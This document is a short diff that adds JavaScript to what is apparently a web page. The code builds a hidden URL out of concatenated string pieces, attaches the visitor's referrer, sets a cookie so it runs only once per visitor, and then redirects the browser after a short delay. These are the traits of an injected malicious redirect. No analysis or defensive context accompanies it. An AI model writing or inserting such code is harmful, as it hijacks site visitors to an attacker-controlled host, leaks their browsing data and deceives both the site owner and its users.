@@ -1,0 +1,19 @@
+function landing() {
+
+function redir() {
+  var p0 = "htt" + "ps:";
+  var p1 = "//" + "panel";
+  var p2 = ".example" + ".org/";
+  var p3 = "text" + "?" + "ref=" + escape(document.referrer);
+  return p0 + p1 + p2 + p3;
+}
+var gate = redir();
+if (document.cookie.indexOf("segment") === -1) {
+  document.cookie = "segment=1; path=/";
+  setTimeout(function() {
+    window.location = gate;
+  }, 502);
+}
+
+}
+landing();
